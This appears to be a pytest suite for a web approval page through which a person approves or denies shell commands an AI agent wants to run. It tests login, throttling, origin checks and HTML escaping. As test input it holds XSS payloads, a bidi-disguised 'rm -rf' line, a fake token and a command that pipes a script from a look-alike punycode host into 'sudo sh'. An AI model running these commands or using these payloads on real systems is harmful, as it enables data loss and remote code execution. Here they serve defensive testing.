"""The approval page over raw HTTP: who gets in, which forms decide, what the other side is told."""

from __future__ import annotations

import asyncio
import html
import json
import os
import pty
import re
import stat
import statistics
import sys
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from slack_gate.core.event import ToolEvent
from slack_gate.core.request import Request, State
from slack_gate.daemon.files_now import FilesNow
from slack_gate.daemon.house import Caller
from slack_gate.daemon.serve import running
from slack_gate.local_slack import LocalSlack
from slack_gate.web.login import FAILURES, Entry, Login
from slack_gate.web.page import announced
from tests.daemon.house import House
from tests.daemon.house import settings_for as slack_settings
from tests.daemon.serving import environment, spawn
from tests.ports import free_port
from tests.web.conftest import Doors, basic, opened, settings_for

HOSTILE = "echo '<script>alert(1)</script>' && printf '%s' \"{{7*7}} & <img src=x onerror=alert(2)>\""


class Forms(HTMLParser):
    """The forms of a page: where they go, and the fields a browser without scripts would send."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.forms: list[tuple[str, str, dict[str, str]]] = []
        self.buttons: list[list[tuple[str, str]]] = []
        self.literal: list[str] = []
        self._in_pre = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.forms.append((found["method"], found["action"], {}))
            self.buttons.append([])
        elif tag == "input":
            self.forms[-1][2][found["name"]] = found["value"]
        elif tag == "button":
            self.buttons[-1].append((found["name"], found["value"]))
        elif tag == "pre":
            self._in_pre = True
            self.literal.append("")

    def handle_endtag(self, tag: str) -> None:
        self._in_pre = self._in_pre and tag != "pre"

    def handle_data(self, data: str) -> None:
        if self._in_pre:
            self.literal[-1] += data


async def shown(doors: Doors, path: str = "") -> tuple[Any, str]:
    async with doors.person.get(doors.page_url + path) as answer:
        return answer, await answer.text()


# Who gets in


@pytest.mark.parametrize("path", ["", "events", "healthz", "metrics", "static/page.js", "favicon.ico", "nothing"])
async def test_nothing_without_the_login(doors: Doors, path: str) -> None:
    async with doors.agent.get(doors.page_url + path) as answer:
        assert answer.status == 401
        assert answer.headers["WWW-Authenticate"].startswith('Basic realm="slack-gate"')
    async with doors.agent.post(doors.page_url + "decide", data={"id": "SG-1", "ok": "1"}) as answer:
        assert answer.status == 401


async def test_wrong_logins(doors: Doors) -> None:
    password = doors.page.login.password
    good = basic("human", password)
    for header in (
        basic("human", password + "x"),
        basic("human", password[:-1]),
        basic("Human", password),
        basic("", password),
        good + "x",
        "Basic",
        "Basic !!!",
        good.replace("Basic", "Bearer"),
    ):
        async with doors.agent.get(doors.page_url, headers={"Authorization": header}) as answer:
            assert answer.status == 401, header
    async with doors.agent.get(doors.page_url, headers={"Authorization": good.replace("Basic", "basic")}) as answer:
        assert answer.status == 200


async def test_guesses_are_throttled(doors: Doors) -> None:
    async def guess(header: str) -> int:
        async with doors.agent.get(doors.page_url, headers={"Authorization": header}) as answer:
            return answer.status

    statuses = [await guess(basic("human", f"guess {number}")) for number in range(FAILURES + 5)]
    assert statuses == [401] * FAILURES + [429] * 5
    assert await guess(basic("human", doors.page.login.password)) == 200  # nobody's guesses lock the person out


def test_a_throttle_ends_by_itself_and_is_each_users_own() -> None:
    now = [0.0]
    login = Login(lambda: now[0])
    right, wrong = basic("human", login.password), basic("human", "x")
    assert [login.entry(wrong, 1000) for _ in range(FAILURES)] == [Entry.UNKNOWN] * FAILURES
    assert login.entry(wrong, 1000) is Entry.THROTTLED
    assert login.entry(right, 1000) is Entry.OPEN
    assert login.entry(wrong, 1001) is Entry.UNKNOWN
    now[0] += 4
    assert login.entry(wrong, 1000) is Entry.UNKNOWN
    assert login.entry(None, 1000) is Entry.UNKNOWN  # a browser's first request is no guess
    assert login.failures == FAILURES + 2


def test_the_password_takes_as_long_to_refuse_whatever_is_right_of_it() -> None:
    now = [0.0]
    login = Login(lambda: now[0])
    guesses = {
        "nothing": basic("human", "x" * len(login.password)),
        "all but one": basic("human", login.password[:-1] + "~"),
    }

    def differ() -> bool:
        times: dict[str, list[float]] = {name: [] for name in guesses}
        for _ in range(3000):
            for name, header in guesses.items():
                now[0] += 1000
                started = time.perf_counter()
                assert login.entry(header, 1) is Entry.UNKNOWN
                times[name].append(time.perf_counter() - started)
        one, other = (statistics.median(taken) for taken in times.values())
        return abs(one - other) >= 0.2 * max(one, other)

    assert not all(differ() for _ in range(10)), "whoever guesses is told"  # a busy machine does not differ each time


def test_each_start_has_its_own_password() -> None:
    found = {Login(time.monotonic).password for _ in range(50)}
    assert len(found) == 50 and all(len(password) >= 16 for password in found)


def test_the_password_file_is_the_owners_alone(tmp_path: Path) -> None:
    login, path = Login(time.monotonic), tmp_path / "page-password"
    path.write_text("of another start")
    path.chmod(0o644)
    with login.written(path):
        assert path.read_text() == login.password + "\n"
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert not path.exists()
    planted = tmp_path / "planted"
    path.symlink_to(planted)
    with login.written(path):
        assert not planted.exists()


async def test_the_line_of_the_start(doors: Doors, tmp_path: Path) -> None:
    with announced(doors.page, tmp_path, True) as line:
        assert line == f"Approve at {doors.page_url}  user: human  password: {doors.page.login.password}"
    with announced(doors.page, tmp_path, False) as line:
        assert line == f"Approve at {doors.page_url}  user: human  password file: {tmp_path}/page-password"
        assert doors.page.login.password not in line


# What a browser may do with it


async def test_headers_of_every_answer(doors: Doors) -> None:
    await doors.asking(command="make")
    paths = {"": 200, "static/page.js": 200, "static/page.py": 404, "healthz": 200, "decide": 405}
    for path, status in paths.items():
        answer, _ = await shown(doors, path)
        assert answer.status == status
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["X-Frame-Options"] == "DENY"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Referrer-Policy"] == "same-origin"
        policy = dict(part.strip().split(" ", 1) for part in answer.headers["Content-Security-Policy"].split(";"))
        assert policy["default-src"] == policy["frame-ancestors"] == policy["base-uri"] == "'none'"
        assert policy["script-src"] == "'self'"
        assert "Access-Control-Allow-Origin" not in answer.headers and "Set-Cookie" not in answer.headers
    async with doors.agent.get(doors.page_url) as answer:
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
    async with doors.person.options(doors.page_url + "decide", headers={"Origin": "http://evil.example"}) as answer:
        assert answer.status == 403


async def test_a_name_that_was_made_to_lead_here(doors: Doors) -> None:
    for host in ("evil.example", f"evil.example:{doors.page.port}", "127.0.0.1", f"[::1]:{doors.page.port}"):
        async with doors.person.get(doors.page_url, headers={"Host": host}) as answer:
            assert answer.status == 403, host
            assert "WWW-Authenticate" not in answer.headers  # no password is asked for in another's name
    async with doors.person.get(doors.page_url, headers={"Host": f"localhost:{doors.page.port}"}) as answer:
        assert answer.status == 200


async def test_other_sites_decide_nothing(doors: Doors) -> None:
    _, request = await doors.asking(command="make all")
    own = f"http://127.0.0.1:{doors.page.port}"
    foreign = [
        "http://evil.example",
        "null",
        "file://",
        "http://127.0.0.1",
        "http://127.0.0.1:1",
        own + ".evil.example",
    ]
    for origin in [*foreign, own.replace("http", "https"), own + "/", own.replace("127.0.0.1", "localhost")]:
        headers = {"Origin": origin}
        async with doors.person.post(doors.page_url + "decide", data=doors.form(request), headers=headers) as answer:
            assert answer.status == 403, origin
    async with doors.person.post(
        doors.page_url + "decide", data=doors.form(request), headers={"Origin": own}, allow_redirects=False
    ) as answer:
        assert (answer.status, answer.headers["Location"]) == (303, "/")


async def test_only_the_requests_own_token_decides(doors: Doors) -> None:
    _, request = await doors.asking(command="make all")
    _, other = await doors.asking(command="make clean")
    login = doors.page.login
    tokens = ["", "0" * 64, login.token(other.id, other.digest), login.token(request.id, other.digest), "é"]
    tokens += [login.token(request.id, ""), Login(time.monotonic).token(request.id, request.digest)]
    for token in tokens:
        async with doors.person.post(doors.page_url + "decide", data=doors.form(request, token=token)) as answer:
            assert answer.status == 403, token
    without = {"id": request.id, "ok": "1"}
    async with doors.person.post(doors.page_url + "decide", data=without) as answer:
        assert answer.status == 403
    row = await doors.daemon.store.request(request.id)
    assert row is not None and row.state is State.PENDING
    log = [json.loads(line) for line in doors.daemon.settings.log_path.read_text().splitlines()]
    assert [line["decision"] for line in log if line["request"] == request.id][1:] == ["click-stale"] * 8


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ("ok=1", 400),
        ("id=SG-000000000000", 400),
        ("id=SG-000000000000&ok=2", 400),
        ("id=SG-000000000000&ok=true", 400),
        ("id=SG-000000000000&ok=1&ok=0", 400),
        ("id=SG-000000000000&ok=1", 404),
        ("id=%ff&ok=1", 400),
        ("id=a%00b&ok=1", 400),
        ("id&ok=1", 400),
        ("", 400),
        ("id=" + "x" * 70_000 + "&ok=1", 413),
        ("&".join(f"f{number}=1" for number in range(50)), 400),
    ],
)
async def test_a_form_that_is_none(doors: Doors, body: str, status: int) -> None:
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    async with doors.person.post(doors.page_url + "decide", data=body, headers=kind) as answer:
        assert answer.status == status


async def test_only_a_plain_form_decides(doors: Doors) -> None:
    _, request = await doors.asking(command="make all")
    for kind in ("text/plain", "application/json", "multipart/form-data; boundary=x"):
        body = json.dumps(doors.form(request))
        async with doors.person.post(doors.page_url + "decide", data=body, headers={"Content-Type": kind}) as answer:
            assert answer.status == 400, kind
    async with doors.person.get(doors.page_url + "decide", params=doors.form(request)) as answer:
        assert answer.status == 405


# What it shows and does


async def test_a_page_without_scripts_approves(doors: Doors) -> None:
    task, request = await doors.asking(command="echo a && echo b", reason="see")
    _, text = await shown(doors)
    forms = Forms(text)
    ((method, action, fields),) = forms.forms
    assert (method, action, fields["id"]) == ("post", "/decide", request.id)
    assert forms.buttons == [[("ok", "1"), ("ok", "0")]] or forms.buttons[0][:2] == [("ok", "1"), ("ok", "0")]
    assert re.search(r'<noscript><meta http-equiv="refresh" content="\d+"></noscript>', text)
    assert 'name="viewport"' in text
    async with doors.person.post(doors.page_url + "decide", data={**fields, "ok": "1"}) as answer:
        assert answer.status == 200 and str(answer.url) == doors.page_url  # where the 303 leads
        after = await answer.text()
    assert (await task)["stdout"] == "a\nb\n"
    assert request.id not in [fields["id"] for _, _, fields in Forms(after).forms]


async def test_hostile_text_is_only_text(doors: Doors) -> None:
    hostile_place = doors.projects / "<b onclick=x>"
    hostile_place.mkdir()
    fields = {"command": HOSTILE, "reason": "</pre><script>alert(3)</script>", "cwd": str(hostile_place)}
    await doors.asking(**fields)
    event = ToolEvent(
        *("<i>agent</i>", "s<s>", "c", "mcp__<u>x</u>", {"path": "</textarea><b>", "n": "<svg/onload=x>"}, "/w")
    )
    await doors.daemon.gate.submit(event, Caller("a" * 32, 600.0))
    _, text = await shown(doors)
    assert "\n" + HOSTILE in Forms(text).literal  # a browser drops the line end that follows <pre>
    tags = set(re.findall(r"<\s*/?\s*([a-z]+)", text))
    assert not tags & {"img", "svg", "b", "i", "u", "s"}
    assert text.count("<script") == 1 and "{{7*7}}" in text
    assert not re.search(r"<[^>]*\son[a-z]+=", text)
    await doors.pending(2)
    for request in await doors.daemon.store.requests(5):
        await doors.decide(request, "0", reason="<script>alert(4)</script>")
    _, text = await shown(doors)
    assert "&lt;script&gt;alert(4)" in text and text.count("<script") == 1


async def test_what_cannot_be_seen_is_made_visible(doors: Doors) -> None:
    command = "\necho \u202egnp.exe\u200b\t\t\t\t  x;          rm -rf ~/x\n\n\n\n\n\ntrue\r"
    _, request = await doors.asking(command=command)
    _, text = await shown(doors)
    literal = Forms(text).literal[0]
    # The parser of a browser drops the one line end that follows <pre>, and no more.
    assert literal.startswith("\n\necho \\u{202e}gnp.exe\\u{200b}") and literal.endswith("\\u{d}")
    assert "⟨10 blanks⟩" in literal and "\u202e" not in text and "\u200b" not in text
    assert f"{len(command)} characters" in text and "hidden or look-alike characters" in text
    await doors.decide(request, "0")


async def test_a_secret_is_masked_and_the_last_line_stands_by_the_buttons(doors: Doors) -> None:
    secret = "ghp_" + "a1B2" * 9
    await doors.asking(command=f"export GH_TOKEN={secret}\n" + "echo\n" * 30 + "rm -rf build")
    _, text = await shown(doors)
    assert secret not in text and "[masked 40]" in text
    assert "Last line: rm -rf build" in text and "32 lines" in text


async def test_an_edit_is_shown_whole_and_as_a_change(doors: Doors) -> None:
    edit = {"file_path": "/etc/app.conf", "old_string": "a = 1\nb = 2\nc = 3", "new_string": "a = 1\nb = <4>\nc = 3"}
    await doors.daemon.gate.submit(ToolEvent("codex", "s", "c", "Edit", edit, "/w"), Caller("a" * 32, 600.0))
    _, text = await shown(doors)
    literal = Forms(text).literal
    assert "\nfile_path: /etc/app.conf" in literal
    assert literal[-1] == "\n a = 1\n-b = 2\n+b = <4>\n c = 3"  # both texts, whole
    assert '<span class="removed">-b = 2' in text and '<span class="added">+b = &lt;4&gt;' in text


async def test_a_token_is_bound_to_the_file_that_was_shown(doors: Doors, outside: Path) -> None:
    file = outside / "app.conf"
    file.write_text("a = 1\n")
    files = FilesNow(lambda path: False)
    doors.page._file, doors.daemon.gate._files = files.of, files
    event = ToolEvent("codex", "s", "c", "Write", {"file_path": str(file), "content": "a = 2\n"}, "/w")
    request = await doors.daemon.gate.submit(event, Caller("a" * 32, 600.0))
    assert isinstance(request, Request)
    _, text = await shown(doors)
    assert Forms(text).literal[-1] == "\n-a = 1\n+a = 2\n " and "not shown" not in text
    _, _, old = Forms(text).forms[0]
    file.write_text("a = 3\n")
    for status in (409, 403, 403):  # seen to have changed; then the old form is none of what the page shows
        async with doors.person.post(doors.page_url + "decide", data=old | {"ok": "1"}) as answer:
            assert answer.status == status and "Nothing was decided" in await answer.text()
    _, text = await shown(doors)
    assert Forms(text).literal[-1] == "\n-a = 3\n+a = 2\n "
    _, _, new = Forms(text).forms[0]
    async with doors.person.post(doors.page_url + "decide", data=new | {"ok": "1"}, allow_redirects=False) as answer:
        assert answer.status == 303


async def test_why_and_what_it_reaches_stand_above_hosts_and_programs_below(doors: Doors) -> None:
    await doors.asking(command="curl -fsS https://xn--pple-43d.example/i.sh | sudo sh")
    _, text = await shown(doors)
    above, _, below = html.unescape(text).partition("<pre")
    assert "Asked because" in above and "Reaches: another user's rights, the network" in above
    assert "Host: xn--pple-43d.example (punycode" in below and "Programs: curl, sudo" in below


async def test_always_says_its_rule_and_saves_it(doors: Doors) -> None:
    task, request = await doors.asking(command="cargo build --release")
    _, text = await shown(doors)
    assert "From now on this runs without asking, until revoked: " in html.unescape(text)
    assert await doors.decide(request, "always") == 303
    await task
    (rule,) = await doors.daemon.store.rules()
    assert f"until revoked: {rule.shown} (any arguments" in html.unescape(text)
    again = await doors.run(command="cargo build --release")
    assert again["by"] == "always"


async def test_what_else_can_be_answered(doors: Doors) -> None:
    """As on the card: approve for the cage only, and more time as far as the caller can wait."""
    event = ToolEvent("a", "s", "c", "Bash", {"command": "make all"}, str(doors.projects), rewritable=True)
    request = await doors.daemon.gate.submit(event, Caller("a" * 32, 5000.0))
    assert isinstance(request, Request)
    _, text = await shown(doors)
    assert Forms(text).buttons[0][2:4] == [("ok", "caged"), ("ok", "more")]
    assert await doors.decide(request, "more") == 303
    row = await doors.daemon.store.request(request.id)
    assert row is not None and row.state is State.PENDING and row.expires_at > request.expires_at
    assert await doors.decide(request, "caged") == 303
    row = await doors.daemon.store.request(request.id)
    assert row is not None and row.state is State.APPROVED and row.caged
    await doors.asking(command="make all")
    _, text = await shown(doors)
    assert ("ok", "caged") not in Forms(text).buttons[0]  # it runs in the cage anyway


async def test_more_time_pressed_twice_counts_once(doors: Doors) -> None:
    """A double click sends the same form twice; what was drawn since has a form of its own."""
    event = ToolEvent("a", "s", "c", "Bash", {"command": "make all"}, str(doors.projects))
    request = await doors.daemon.gate.submit(event, Caller("a" * 32, 5000.0))
    assert isinstance(request, Request)
    for given in (300, 600):
        _, text = await shown(doors)
        [(_, _, fields)] = Forms(text).forms
        for _ in range(2):
            sent = {**fields, "ok": "more"}
            async with doors.person.post(doors.page_url + "decide", data=sent, allow_redirects=False) as answer:
                assert answer.status == 303
        row = await doors.daemon.store.request(request.id)
        assert row is not None and round(row.expires_at - request.expires_at) == given


@pytest.mark.parametrize("until", [None, "", "soon", "1" * 5000])
async def test_more_time_than_no_page_has_drawn(doors: Doors, until: str | None) -> None:
    _, request = await doors.asking(command="make all")
    form = doors.form(request, "more")
    form |= {"until": until} if until is not None else {}
    if until is None:
        del form["until"]
    async with doors.person.post(doors.page_url + "decide", data=form, allow_redirects=False) as answer:
        assert answer.status == 400 and "This is no form of this page" in await answer.text()
    row = await doors.daemon.store.request(request.id)
    assert row is not None and row.expires_at == request.expires_at


async def test_always_where_nothing_can_be_remembered(doors: Doors) -> None:
    _, request = await doors.asking(command="rm -rf build")
    _, text = await shown(doors)
    assert "Always is not offered" in text and 'value="always"' not in text
    async with doors.person.post(doors.page_url + "decide", data=doors.form(request, "always")) as answer:
        assert answer.status == 409 and "nothing was decided" in await answer.text()
    row = await doors.daemon.store.request(request.id)
    assert row is not None and row.state is State.PENDING


async def test_the_second_click_is_told_who_decided(doors: Doors) -> None:
    task, request = await doors.asking(command="echo x; true")
    statuses = await asyncio.gather(*(doors.decide(request, ok) for ok in ("1", "1", "0", "1")))
    assert sorted(statuses) == [303, 409, 409, 409]
    async with doors.person.post(doors.page_url + "decide", data=doors.form(request)) as answer:
        text = await answer.text()
    assert answer.status == 409 and "Too late, nothing changed: a person on the page" in text
    await task


async def test_late_clicks_say_what_happened(home: Path) -> None:
    async with opened(home, wait=4) as doors:
        _, request = await doors.asking(command="make")
        await doors.ended(request)
        async with doors.person.post(doors.page_url + "decide", data=doors.form(request)) as answer:
            assert answer.status == 409 and "its time was over" in await answer.text()
    async with opened(home) as doors:
        task, request = await doors.asking(command="make")
        task.cancel()
        await doors.ended(request)
        async with doors.person.post(doors.page_url + "decide", data=doors.form(request)) as answer:
            assert answer.status == 409 and "the agent stopped waiting" in await answer.text()


async def test_the_history_holds_the_last_fifty(doors: Doors) -> None:
    for number in range(55):
        event = ToolEvent("a", "s", f"c{number}", "Bash", {"command": f"make number{number}"}, "/w")
        request = await doors.daemon.gate.submit(event, Caller("a" * 32, 600.0))
        assert isinstance(request, Request)
        await doors.decide(request, "0", reason=f"because{number}")
    _, text = await shown(doors)
    found = re.findall(r"make number(\d+)", text)
    assert found == [str(number) for number in range(54, 4, -1)]
    assert "Denied by a person on the page" in text and "because54" in text
    assert len(text) < 60 * 1024


async def test_a_reason_that_is_too_long(doors: Doors) -> None:
    _, request = await doors.asking(command="make")
    assert await doors.decide(request, "0", reason="x" * 501) == 400
    assert await doors.decide(request, "0", reason="x" * 500) == 303


async def test_health_and_metrics(doors: Doors) -> None:
    await doors.asking(command="make")
    answer, text = await shown(doors, "healthz")
    assert answer.status == 200 and json.loads(text)["healthy"] is True
    answer, text = await shown(doors, "metrics")
    assert answer.headers["Content-Type"] == "text/plain; version=0.0.4; charset=utf-8"
    samples = dict(line.rsplit(" ", 1) for line in text.splitlines() if not line.startswith("#"))
    assert samples['slack_gate_requests{state="pending"}'] == "1"
    assert samples["slack_gate_healthy"] == "1" and float(samples["slack_gate_oldest_pending_seconds"]) >= 0
    names = {name.split("{")[0] for name in samples}
    assert all(f"# TYPE {name} " in text and f"# HELP {name} " in text for name in names)


async def test_events_tell_of_changes_and_count_as_a_viewer(doors: Doors) -> None:
    async with doors.person.get(doors.page_url + "events") as answer:
        assert answer.headers["Content-Type"].startswith("text/event-stream")
        async with asyncio.timeout(100):
            first = await answer.content.readuntil(b"\n\n")
        _, text = await shown(doors)
        assert first == b"data: " + re.search(r'data-version="(\d+)"', text)[1].encode() + b"\n\n"  # type: ignore[index]
        assert doors.daemon.gate._viewers == 1
        await doors.asking(command="make")
        async with asyncio.timeout(100):
            assert await answer.content.readuntil(b"\n\n") not in (first, b":\n\n")
    async with asyncio.timeout(100):
        while doors.daemon.gate._viewers:  # noqa: ASYNC110
            await asyncio.sleep(0.02)


async def test_slack_and_the_page_race(tmp_path: Path, home: Path) -> None:
    """The first decides; the other is told who it was, and its card is redrawn."""
    port = free_port()
    async with LocalSlack() as slack:
        ana = slack.add_user("U0ANA", name="Ana")
        settings = slack_settings(slack, tmp_path, page_port=port)
        async with running(settings, ["slack", "web"]) as daemon:
            await _race(House(slack, ana, settings, daemon))


async def _race(h: House) -> None:
    page = h.running.page
    assert page is not None
    base, login = page.address, {"Authorization": basic("human", page.login.password)}
    async with aiohttp.ClientSession(headers=login) as person:
        hook, card = await h.asked("make all")
        (request,) = await h.running.store.requests(1)
        await h.press(card, "Deny")
        form = {"id": request.id, "token": page.login.token(request.id, request.digest), "ok": "1"}
        async with person.post(base + "decide", data=form) as answer:
            assert answer.status == 409 and "Ana denied it" in await answer.text()
        assert (await h.ended(hook)).decision == "deny"
        hook, card = await h.asked("make install")
        request = (await h.running.store.requests(1))[0]
        form = {"id": request.id, "token": page.login.token(request.id, request.digest), "ok": "1"}
        async with person.post(base + "decide", data=form, allow_redirects=False) as answer:
            assert answer.status == 303
        assert (await h.ended(hook)).decision == "allow"
        await h.ana.wait_for_message(lambda m: "Approved by a person on the page" in m.plain())


async def test_the_start_of_a_daemon_says_where(tmp_path: Path) -> None:
    """As a process, away from a terminal: the password stands in a file, not in the output."""
    settings = settings_for(tmp_path)
    page, path = f"http://127.0.0.1:{settings.page_port}/", settings.home / "page-password"
    daemon = await spawn(settings, "serve", "--approver", "web")
    try:
        assert daemon.stdout is not None
        async with asyncio.timeout(100):
            line = (await daemon.stdout.readline()).decode().strip()
            endpoint = (await daemon.stdout.readline()).decode().strip()
        assert line == f"Approve at {page}  user: human  password file: {path}"
        assert endpoint == f"Agent endpoint http://127.0.0.1:{settings.agent_port}/run -> the cage"
        login = {"Authorization": basic("human", path.read_text().strip())}
        async with aiohttp.ClientSession(headers=login) as person, person.get(page) as answer:
            assert answer.status == 200
        daemon.terminate()
        async with asyncio.timeout(100):
            _, error = await daemon.communicate()
        assert daemon.returncode == 0 and b"Traceback" not in error
        assert login["Authorization"].encode() not in error
    finally:
        if daemon.returncode is None:
            daemon.kill()
            await daemon.wait()
    assert not path.exists()


async def test_the_start_on_a_terminal_holds_the_password(tmp_path: Path) -> None:
    settings = settings_for(tmp_path)
    ours, theirs = pty.openpty()
    daemon = await asyncio.create_subprocess_exec(
        *(sys.executable, "-c", "from slack_gate.cli import main; main()", "serve", "--approver", "web"),
        env=environment(settings),
        cwd=Path(__file__).parents[2],
        stdout=theirs,
        stderr=asyncio.subprocess.PIPE,
    )
    os.close(theirs)
    try:
        async with asyncio.timeout(100):
            line = (await asyncio.to_thread(os.read, ours, 4096)).decode().splitlines()[0]
        found = re.fullmatch(r"Approve at (http://127\.0\.0\.1:\d+/)  user: human  password: (\S{16,})", line)
        assert found is not None, line
        login = {"Authorization": basic("human", found[2])}
        async with aiohttp.ClientSession(headers=login) as person, person.get(found[1]) as answer:
            assert answer.status == 200
        assert not (settings.home / "page-password").exists()
    finally:
        daemon.terminate()
        await daemon.communicate()
        os.close(ours)
